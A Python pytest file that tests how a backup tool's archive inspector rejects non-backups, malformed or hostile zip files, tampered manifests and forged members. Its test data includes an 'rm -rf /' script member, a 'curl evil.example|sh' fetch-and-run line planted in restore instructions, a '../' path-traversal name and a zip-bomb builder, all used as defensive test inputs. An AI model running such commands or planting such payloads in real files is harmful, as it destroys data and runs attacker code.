"""Inspection: what a backup says without its password, and what is refused before one is asked."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace

import pytest

from nskeys.archive.age.scrypt import encrypt
from nskeys.archive.canonical_zip import build
from nskeys.archive.inspection import inspect
from nskeys.archive.limits import ARCHIVE_LIMIT
from nskeys.archive.manifest import manifest_bytes, signed_manifest
from nskeys.crypto.keys import new_server_seed, server_thumbprint
from nskeys.crypto.signing import public_of
from nskeys.errors import BackupDamaged, BackupForged, NewerVersion, NotABackup
from nskeys.model.register import Protection
from tests.core.archive.samples import (
    SEED,
    archive,
    fact,
    facts,
    members_of,
    password,
    rebuilt,
    retold,
    to_recipients,
)

WRITTEN = archive()
MEMBERS = members_of(WRITTEN.data)


def test_an_archive_tells_everything_but_its_keys() -> None:
    inspected = inspect("/mnt/a.zip", WRITTEN.data)
    assert inspected.manifest == WRITTEN.manifest
    assert inspected.manifest.facts == WRITTEN.facts
    assert not inspected.bare
    assert inspected.path == "/mnt/a.zip"
    assert inspected.kms == WRITTEN.kms
    assert (inspected.kms_sha256, inspected.file_sha256) == (WRITTEN.kms_sha256, WRITTEN.archive_sha256)
    assert inspected.size == len(WRITTEN.data)
    assert inspected.protection is Protection.PASSWORD


def test_a_bare_kms_is_accepted_and_tells_nothing() -> None:
    inspected = inspect("/mnt/a.kms", WRITTEN.kms)
    assert inspected.bare
    assert inspected.manifest is None
    assert inspected.kms_sha256 == inspected.file_sha256 == WRITTEN.kms_sha256


def test_nothing_secret_shows_in_what_was_written_or_inspected() -> None:
    for value in (WRITTEN, inspect("", WRITTEN.data)):
        assert "age-encryption" not in repr(value)


# --- not a backup --------------------------------------------------------------------------------


def _zip(*members: tuple[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as other:
        for name, data in members:
            other.writestr(zipfile.ZipInfo(name), data, compression)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "neither_zip_nor_age"),
        (b"hello", "neither_zip_nor_age"),
        (b"MZ" + bytes(100), "neither_zip_nor_age"),
        (b"x" + WRITTEN.data, "neither_zip_nor_age"),
        (b"#!/bin/sh\n" + WRITTEN.data, "neither_zip_nor_age"),
        (_zip(), "neither_zip_nor_age"),
        (_zip(("photo.jpg", b"x")), "other_zip"),
        (_zip(("photo.jpg", b"x" * 500), compression=zipfile.ZIP_DEFLATED), "other_zip"),
        (b"PK\x03\x04", "other_zip"),
        (WRITTEN.data + bytes(ARCHIVE_LIMIT), "too_large"),
        (b"age-encryption.org/v2\n" + bytes(100), "age_version"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_another_file_is_no_backup(data: bytes, problem: str) -> None:
    with pytest.raises(NotABackup) as raised:
        inspect("/mnt/x", data)
    assert (raised.value.path, raised.value.problem) == ("/mnt/x", problem)


# --- hostile and damaged archives ------------------------------------------------------------------


def _patched(offset: int, value: bytes, base: bytes = WRITTEN.data) -> bytes:
    return base[:offset] + value + base[offset + len(value) :]


def _bomb() -> bytes:
    """A member that claims to grow a thousandfold when it is unpacked."""
    packed = zlib.compress(bytes(8_000_000))[2:-4]
    member = _zip(("RESTORE.txt", packed))
    return _patched(22, struct.pack("<I", 8_000_000), _patched(8, b"\x08\x00", member))


_RESTORE, _READER, _MANIFEST, _KMS = MEMBERS.items()
_DIRECTORY = WRITTEN.data.index(b"PK\x01\x02")
_END = WRITTEN.data.index(b"PK\x05\x06")

HOSTILE = {
    "a member twice": build((_RESTORE, _READER, _MANIFEST, _KMS, _KMS)),
    "RESTORE.txt twice": build((_RESTORE, _RESTORE, _READER, _MANIFEST, _KMS)),
    "a member too many": build((_RESTORE, _READER, _MANIFEST, _KMS, ("run-me.sh", b"rm -rf /\n"))),
    "a member too few": build((_RESTORE, _READER, _MANIFEST)),
    "only instructions": build((_RESTORE,)),
    "a path that leaves the folder": build((_RESTORE, ("../open_kms.py", _READER[1]), _MANIFEST, _KMS)),
    "another order": build((_RESTORE, _MANIFEST, _READER, _KMS)),
    "data behind the end": WRITTEN.data + b"x",
    "a second archive behind the end": WRITTEN.data + WRITTEN.data,
    "data between the members": WRITTEN.data.replace(b"PK\x03\x04", b"xPK\x03\x04").removeprefix(b"x"),
    "data before the directory": WRITTEN.data[:_DIRECTORY] + b"x" + WRITTEN.data[_DIRECTORY:],
    "an archive comment": _patched(len(WRITTEN.data) - 2, b"\x03\x00") + b"abc",
    "no directory": WRITTEN.data[:_DIRECTORY],
    "no end": WRITTEN.data[:_END],
    "packed members": _zip(*MEMBERS.items(), compression=zipfile.ZIP_DEFLATED),
    "stored members as Python writes them": _zip(*MEMBERS.items()),
    "a bomb": _bomb(),
    "the encryption flag": _patched(6, b"\x01\x00"),
    "the encryption flag in the directory": _patched(_DIRECTORY + 8, b"\x01\x00"),
    "a data descriptor": _patched(6, b"\x08\x00"),
    "an extra field": _patched(28, b"\x04\x00"),
    "a size beyond the file": _patched(18, b"\xf0\xff\xff\xff" * 2),
    "another date": _patched(10, b"\x21\x08"),
    "executable": _patched(_DIRECTORY + 38, struct.pack("<I", 0o100755 << 16)),
    "a link": _patched(_DIRECTORY + 38, struct.pack("<I", 0o120777 << 16)),
    "a name in the directory that differs": _patched(_DIRECTORY + 46, b"RESTORE.TXT"),
    "cut in half": WRITTEN.data[: len(WRITTEN.data) // 2],
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_an_archive_that_is_laid_out_otherwise_is_damaged(data: bytes) -> None:
    assert data != WRITTEN.data
    with pytest.raises(BackupDamaged) as raised:
        inspect("/mnt/a.zip", data)
    assert (raised.value.path, raised.value.part) == ("/mnt/a.zip", "archive")


# --- manifests -------------------------------------------------------------------------------------

_DOCUMENT = MEMBERS["manifest.json"]

MANIFESTS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "empty": (lambda _: b"", "not_json"),
    "no object": (lambda _: b"[]", "wrong_fields"),
    "deep": (lambda _: b"[" * 100_000, "json_depth"),
    "a name twice": (lambda document: b'{"facts":1,' + document[1:], "duplicate_name"),
    "a huge number": (
        lambda document: document.replace(b'"generation":41', b'"generation":' + b"4" * 99_999),
        "number",
    ),
    "a number that floats": (
        lambda document: document.replace(b'"generation":41', b'"generation":41.0'),
        "number",
    ),
    "spaces": (lambda document: document + b"\n", "not_canonical"),
    "a field too many": (lambda document: document[:-1] + b',"x":1}', "wrong_fields"),
    "a field out of order": (lambda document: document[:-1] + b',"a":1}', "not_canonical"),
    "a signature that is none": (
        lambda document: document[: document.rindex(b'"sig":') + 6] + b'"AAAA"}',
        "wrong_size",
    ),
    "no signature field": (lambda document: document[: document.rindex(b',"sig":')] + b"}", "wrong_fields"),
    "another program's": (lambda document: document.replace(b"nskeys/backup/1", b"other/1"), "not_nskeys"),
    "too large": (lambda _: b'"' + b"x" * (4 * 1024 * 1024) + b'"', "too_large"),
}


@pytest.mark.parametrize(("change", "problem"), MANIFESTS.values(), ids=MANIFESTS.keys())
def test_a_manifest_that_is_not_as_written_is_damaged(
    change: Callable[[bytes], bytes], problem: str
) -> None:
    with pytest.raises(BackupDamaged) as raised:
        inspect("/mnt/a.zip", rebuilt(WRITTEN.data, manifest=change(_DOCUMENT)))
    assert (raised.value.part, raised.value.problem) == ("manifest.json", problem)


def test_an_archive_of_a_newer_format_is_called_that_whatever_its_layout() -> None:
    newer = (_RESTORE, ("plan.json", b"{}"), ("manifest.json", b'{"facts":{"format":"nskeys/backup/7"}}'))
    with pytest.raises(NewerVersion) as raised:
        inspect("/mnt/a.zip", build(newer))
    assert (raised.value.what, raised.value.found, raised.value.known) == ("backup", 7, 1)


def test_a_flipped_bit_is_not_taken_for_a_newer_format() -> None:
    at = WRITTEN.data.index(b"nskeys/backup/1") + len(b"nskeys/backup/")
    with pytest.raises(BackupDamaged) as raised:
        inspect("/mnt/a.zip", _patched(at, b"3"))
    assert raised.value.problem == "checksum"


# --- forgeries, by somebody who lays the archive out correctly -----------------------------------------


def _forged(part: str, data: bytes) -> None:
    with pytest.raises(BackupForged) as raised:
        inspect("/mnt/a.zip", data)
    assert (raised.value.path, raised.value.part) == ("/mnt/a.zip", part)


def test_a_swapped_reader_is_forged_even_where_every_hash_agrees() -> None:
    thief = MEMBERS["open_kms.py"].replace(b"getpass.getpass(", b"tell_everyone(")
    _forged("open_kms.py", rebuilt(WRITTEN.data, reader=thief))
    told = tuple(
        (name, replace(fact, sha256="ab" * 32) if name == "open_kms.py" else fact)
        for name, fact in WRITTEN.manifest.members
    )
    manifest = manifest_bytes(replace(WRITTEN.manifest, members=told))
    _forged("open_kms.py", rebuilt(WRITTEN.data, reader=thief, manifest=manifest))


def test_other_instructions_are_forged() -> None:
    evil = MEMBERS["RESTORE.txt"].replace(b"age -d keys.kms", b"curl evil.example|sh")
    _forged("RESTORE.txt", rebuilt(WRITTEN.data, restore=evil))


def test_an_archive_inside_of_the_instructions_is_forged() -> None:
    _forged("RESTORE.txt", rebuilt(WRITTEN.data, restore=WRITTEN.data))


def test_an_identity_that_no_recipient_needs_is_forged() -> None:
    _forged("manifest.json", build((_RESTORE, _READER, _MANIFEST, ("identity.age", b"x"), _KMS)))


def test_facts_that_the_instructions_do_not_tell_are_forged() -> None:
    told = replace(WRITTEN.manifest, facts=replace(WRITTEN.facts, hint="mail it to me"))
    _forged("RESTORE.txt", rebuilt(WRITTEN.data, manifest=manifest_bytes(told)))


def test_hashes_of_companions_that_differ_are_forged() -> None:
    wrong = tuple(
        (name, fact if name == "keys.kms" else replace(fact, size=1))
        for name, fact in WRITTEN.manifest.members
    )
    _forged(
        "manifest.json",
        rebuilt(WRITTEN.data, manifest=manifest_bytes(replace(WRITTEN.manifest, members=wrong))),
    )
    inner = replace(
        WRITTEN.facts, members=tuple((name, replace(fact, size=1)) for name, fact in WRITTEN.facts.members)
    )
    _forged(
        "manifest.json",
        rebuilt(WRITTEN.data, manifest=manifest_bytes(replace(WRITTEN.manifest, facts=inner))),
    )


def test_another_kms_is_damage_and_no_wrong_password() -> None:
    for kms in (WRITTEN.kms[:-1], b"", encrypt(b"{}", password(), 1)):
        with pytest.raises(BackupDamaged) as raised:
            inspect("/mnt/a.zip", rebuilt(WRITTEN.data, kms=kms))
        assert (raised.value.part, raised.value.problem) == ("keys.kms", "hash")


def test_a_story_that_another_key_signed_consistently_passes_until_it_is_opened() -> None:
    """Without the password nothing more can be known; the thumbprint and the payload tell."""
    seed = new_server_seed()
    told = replace(
        facts(),
        server="ns02.example.net",
        server_key=server_thumbprint(public_of(seed)),
        server_public=public_of(seed),
    )
    inspected = inspect("/mnt/a.zip", retold(WRITTEN, told, seed))
    assert inspected.manifest is not None
    assert inspected.manifest.facts.server == "ns02.example.net"
    _forged("signature", retold(WRITTEN, replace(facts(), server="ns02.example.net"), seed))


def test_a_password_file_that_is_said_to_be_for_recipients_is_forged() -> None:
    data = to_recipients().written.data
    told = inspect("", data).manifest
    assert told is not None
    manifest = manifest_bytes(signed_manifest(told.facts, fact(WRITTEN.kms), SEED))
    _forged("manifest.json", rebuilt(data, manifest=manifest, kms=WRITTEN.kms))
